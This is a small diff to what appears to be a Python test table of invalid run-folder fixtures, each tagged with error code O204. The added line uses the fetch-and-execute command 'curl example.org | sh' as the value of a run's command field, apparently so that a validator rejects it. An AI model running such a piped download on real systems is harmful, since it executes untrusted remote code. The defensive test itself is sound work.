@@ -249,6 +249,7 @@ FOLDERS: list[tuple[str, Callable[[Path], object]]] = [
     ("O204", set_run(deadline=float("nan"))),
     ("O204", set_run(devices="cpu")),
     ("O204", set_run(devices=[1])),
+    ("O204", set_run(command="curl example.org | sh")),
     ("O204", set_run(started=None)),
     ("O204", set_run(selection=[["x"]])),
     ("O204", lambda folder: (folder / "run.json").write_text('{"format": 1}')),
